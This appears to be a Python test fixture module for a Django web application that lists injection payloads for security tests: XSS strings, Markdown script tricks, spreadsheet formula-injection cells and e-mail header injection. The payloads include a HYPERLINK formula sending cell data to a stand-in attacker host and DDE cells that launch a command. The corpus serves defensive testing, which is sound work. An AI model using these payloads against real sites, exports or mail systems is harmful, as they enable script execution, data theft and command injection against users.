"""The injection corpus: what an attacker types into free-text fields.

Every XSS payload, if it ever ran, would call `window.__xss.push(...)` (and some `alert`),
which the browser test watches. None has leading or trailing spaces (forms strip them), none
is longer than 150 characters (the shortest free-text fields), and none contains a NUL byte
(PostgreSQL refuses those; Django's forms reject them first).
"""

import pytest

XSS_PAYLOADS = {
    "script-tag": "<script>window.__xss.push('script');alert(1)</script>",
    "img-onerror": "<img src=x onerror=\"window.__xss.push('img');alert(1)\">",
    "svg-onload": "<svg/onload=window.__xss.push('svg')>",
    "javascript-url": "javascript:window.__xss.push('url');alert(1)//",
    "a-javascript-href": "<a href=\"javascript:window.__xss.push('a')\">click me</a>",
    "attribute-breakout-double": "\"><script>window.__xss.push('dq')</script>",
    "attribute-breakout-single": "'><img src=x onerror=window.__xss.push('sq')>",
    "attribute-event": "\" autofocus onfocus=\"window.__xss.push('focus')",
    # Out of the elements whose content is raw text: <textarea>, <title>, <style>, <script>.
    "element-breakout": (
        "</textarea></title></style></script><script>window.__xss.push('breakout')</script>"
    ),
    "iframe-srcdoc": "<iframe srcdoc=\"<script>parent.__xss.push('srcdoc')</script>\"></iframe>",
    "template-syntax": "{{7*7}} ${7*7} {% debug %} #{7*7} <%= 7*7 %>",
    "markdown-link": "[click](javascript:window.__xss.push('md'))",
    "markdown-raw-html": "<details open ontoggle=window.__xss.push('details')>x</details>",
    "encoded": "&lt;script&gt;window.__xss.push('entity')&lt;/script&gt; &#60;b&#62; %3Cscript%3E",
    # JSON-style escapes, full-width brackets, line/paragraph separators, right-to-left override.
    "unicode": (
        "\\u003cscript\\u003e ＜script＞ \u2028\u2029 \u202e<ScRiPt>window.__xss.push(1)</sCrIpT>"
    ),
}

# Tricks aimed at Markdown itself (blog post bodies), on top of the corpus above.
MARKDOWN_TRICKS = {
    "md-link-mixed-case": "[x](JaVaScRiPt:window.__xss.push('mdcase'))",
    "md-link-entity": "[x](&#106;avascript:window.__xss.push('mdentity'))",
    "md-link-tab": "[x](java\tscript:window.__xss.push('mdtab'))",
    "md-image": "![x](javascript:window.__xss.push('mdimg'))",
    "md-data-url": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "md-autolink": "<javascript:window.__xss.push('autolink')>",
    "md-reference": "[x][evil]\n\n[evil]: javascript:window.__xss.push('ref')",
    "md-title-breakout": '[x](https://example.org "a\\" onmouseover=\\"window.__xss.push(1)")',
    "md-quote-in-url": "[x](https://example.org/\"onmouseover=\"window.__xss.push('q'))",
    "md-code-fence": "```html\n<script>window.__xss.push('fence')</script>\n```",
    "md-html-block": "<div>\n<script>window.__xss.push('block')</script>\n</div>",
}
MARKDOWN_PAYLOADS = {**XSS_PAYLOADS, **MARKDOWN_TRICKS}

# Cells a spreadsheet program would read as a formula (CSV injection).
CSV_PAYLOADS = {
    "equals-hyperlink": '=HYPERLINK("https://evil.example/?d="&A1,"Click for details")',
    "equals-dde": "=cmd|' /C calc'!A0",
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-1+1+cmd|' /C calc'!A0",
    "at-sum": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    "newline": "\n=1+1",
}
# Line breaks in single-line fields that end up in e-mail headers (subjects).
HEADER_PAYLOADS = {
    "crlf": "Pledge\r\nBcc: victim@example.org",
    "lf": "Pledge\nBcc: victim@example.org",
    "cr": "Pledge\rBcc: victim@example.org",
    "line-separator": "Pledge\u2028Bcc: victim@example.org",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def params(corpus: dict[str, str]) -> list:
    """`pytest.mark.parametrize` values with readable ids."""
    return [pytest.param(value, id=key) for key, value in corpus.items()]


def searchable(payload: str) -> str:
    """Names and titles get a plain word in front, so that search pages can find them."""
    return f"Zebracorn {payload}"
